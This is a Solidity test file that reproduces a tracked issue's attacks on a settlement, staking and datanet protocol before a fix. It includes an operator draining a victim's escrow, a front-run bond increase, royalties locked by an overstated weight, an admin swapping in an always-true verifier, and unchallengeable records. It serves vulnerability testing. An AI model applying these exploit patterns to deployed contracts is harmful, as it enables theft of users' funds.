// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {InferenceSettlement} from "../src/InferenceSettlement.sol";
import {IAttributionVerifier} from "../src/interfaces/IAttributionVerifier.sol";
import {SettlementBase} from "./InferenceSettlement.t.sol";
import {RecomputingVerifier} from "./utils/Fixture.sol";
import {Merkle} from "./utils/Merkle.sol";
import {SpanV1VerifierTest} from "./SpanV1Verifier.t.sol";
import {SpanV1Verifier} from "../src/attribution/SpanV1Verifier.sol";

contract AlwaysWrong is IAttributionVerifier {
    function verifyChallenge(uint256, bytes32, bytes calldata) external pure returns (bool) {
        return true;
    }
}

/// @notice Issue 18's attacks as they succeed on the contracts before the fix.
contract AttacksBeforeFixTest is SettlementBase {
    address victim = makeAddr("victim");
    address attacker = makeAddr("attacker");

    function setUp() public {
        _setUpProtocol();
        fundAndApprove(victim, address(settlement), 1_000_000 ether);
        vm.prank(victim);
        settlement.deposit(1_000_000 ether);
    }

    /// 1. Any staked operator drains any escrow to itself.
    function test_attack1_operatorDrainsAnyEscrow() public {
        fundAndApprove(attacker, address(staking), MIN_STAKE);
        vm.startPrank(attacker);
        staking.stake(attacker, MIN_STAKE);
        uint256 model = models.registerModel("");
        address[] memory accounts = new address[](1);
        accounts[0] = victim;
        uint256[] memory debits = new uint256[](1);
        debits[0] = 1_000_000 ether;
        (,,, uint256 contributors) = settlement.splitFee(1_000_000 ether);
        bytes32 leaf = Merkle.payoutLeaf(attacker, contributors);
        uint256 id = settlement.postBatch(model, accounts, debits, leaf, contributors);
        vm.stopPrank();
        vm.warp(block.timestamp + WINDOW);
        vm.startPrank(attacker);
        settlement.claim(id, contributors, new bytes32[](0));
        settlement.claimEarnings(attacker);
        staking.claimRewards(attacker);
        vm.stopPrank();
        assertEq(settlement.escrowOf(victim), 0);
        assertGt(token.balanceOf(attacker), 800_000 ether); // 95% less what other stakers take

    }

    /// 6. A matured withdrawal request never expires: the payer withdraws any time later, ahead of a batch.
    function test_attack6_maturedRequestNeverExpires() public {
        vm.prank(victim);
        settlement.requestWithdrawal(1_000_000 ether);
        vm.warp(block.timestamp + 365 days);
        vm.prank(victim);
        settlement.withdraw();
        assertEq(settlement.escrowOf(victim), 0);
    }

    /// 5. Refunds cost about 23k gas per account in one transaction: past ~1,300 accounts never refundable.
    function test_attack5_refundIsOneUnboundedTransaction() public {
        uint256 n = 100;
        address[] memory accounts = new address[](n);
        uint256[] memory debits = new uint256[](n);
        for (uint256 i; i < n; i++) {
            accounts[i] = address(uint160(0x9000 + i));
            debits[i] = 1 ether;
            fundAndApprove(accounts[i], address(settlement), 1 ether);
            vm.prank(accounts[i]);
            settlement.deposit(1 ether);
        }
        IAttributionVerifier recomputing = new RecomputingVerifier();
        vm.prank(admin);
        settlement.setVerifier(recomputing);
        (,,, uint256 contributors) = settlement.splitFee(n * 1 ether);
        vm.prank(operator);
        uint256 id = settlement.postBatch(modelId, accounts, debits, keccak256("r"), contributors);
        settlement.challenge(id, abi.encode(bytes32(0)));
        vm.cool(address(settlement));
        uint256 g = gasleft();
        settlement.refundRevertedBatch(id, accounts, debits);
        uint256 each = (g - gasleft()) / n;
        assertGt(each * 1_400, 30_000_000);
    }

    /// 7. The Datanet owner raises the bond under a pending submission, rejects it and keeps the bond.
    function test_attack7_bondRaisedUnderPendingSubmission() public {
        address owner = makeAddr("owner");
        address contributor = makeAddr("contributor");
        fundAndApprove(contributor, address(datanets), 50_000 ether);
        vm.prank(owner);
        uint256 d = datanets.createDatanet("", 0, 0, 1 ether, new address[](0));
        vm.prank(owner); // front-runs the submission
        datanets.setContributionBond(d, 50_000 ether);
        vm.prank(contributor);
        uint256 c = datanets.submitContribution(d, keccak256("text"), 4, "MIT");
        vm.prank(owner);
        datanets.curate(c, false);
        assertEq(datanets.getDatanet(d).pool, 50_000 ether);
    }

    /// 10. An overstated totalWeight locks royalties for good.
    function test_attack10_overstatedTotalWeightLocksRoyalties() public {
        address owner = makeAddr("owner");
        address c = makeAddr("c");
        vm.startPrank(owner);
        uint256 d = datanets.createDatanet("", 100 ether, 0, 0, new address[](0));
        uint256 id = datanets.submitContribution(d, keccak256("t"), 1, "MIT");
        datanets.curate(id, true);
        bytes32 leaf = Merkle.payoutLeaf(c, 1);
        uint256 snap = datanets.publishSnapshot(d, keccak256("r"), 1, 1, leaf, 1000, "");
        vm.stopPrank();
        fundAndApprove(builder, address(datanets), 100 ether);
        vm.prank(builder);
        datanets.buyLicense(snap, builder);
        datanets.claimRoyalty(snap, c, 1, new bytes32[](0));
        assertEq(token.balanceOf(c), 0.1 ether); // 99.9 OPEN locked for good
    }

    /// 11. The admin swaps the verifier mid-window and slashes an honest batch.
    function test_attack11_adminChangesVerifierMidWindow() public {
        address[] memory accounts = new address[](1);
        accounts[0] = victim;
        uint256[] memory debits = new uint256[](1);
        debits[0] = 1 ether;
        (,,, uint256 contributors) = settlement.splitFee(1 ether);
        vm.prank(operator);
        uint256 id = settlement.postBatch(modelId, accounts, debits, keccak256("honest"), contributors);
        IAttributionVerifier alwaysWrong = new AlwaysWrong();
        vm.prank(admin);
        settlement.setVerifier(alwaysWrong);
        settlement.challenge(id, "");
        assertEq(uint8(settlement.getBatch(id).status), uint8(InferenceSettlement.BatchStatus.Reverted));
    }
}

/// @notice Issue 18's verifier attacks (2, 3) before the fix.
contract VerifierAttacksBeforeFixTest is SpanV1VerifierTest {
    /// 2. Honest records, but the whole contributors' share paid to the operator: the honest challenge loses.
    function test_attack2_claimsRootNotTiedToRecords() public {
        uint256 batchId = _postBatch(Merkle.payoutLeaf(operator, 5 ether), HONEST_RECORD);
        vm.prank(challenger);
        vm.expectRevert(abi.encodeWithSelector(InferenceSettlement.ChallengeRejected.selector, batchId));
        settlement.challenge(batchId, HONEST_EVIDENCE);
    }

    /// 3. A record naming a snapshot never published cannot be challenged at all.
    function test_attack3_unpublishedSnapshotMakesRecordUnchallengeable() public {
        uint256[] memory snaps = new uint256[](1);
        snaps[0] = 999;
        bytes32 record = verifier.recordLeaf(keccak256("out"), keccak256("wrong"), snaps, new SpanV1Verifier.ChunkRef[](0));
        uint256 batchId = _postBatch(keccak256("payouts"), record);
        SpanV1Verifier.Evidence memory e;
        e.output = "out";
        e.commitment = keccak256("wrong");
        e.snapshotIds = snaps;
        assertFalse(verifier.verifyChallenge(batchId, keccak256("payouts"), abi.encode(e)));
    }
}
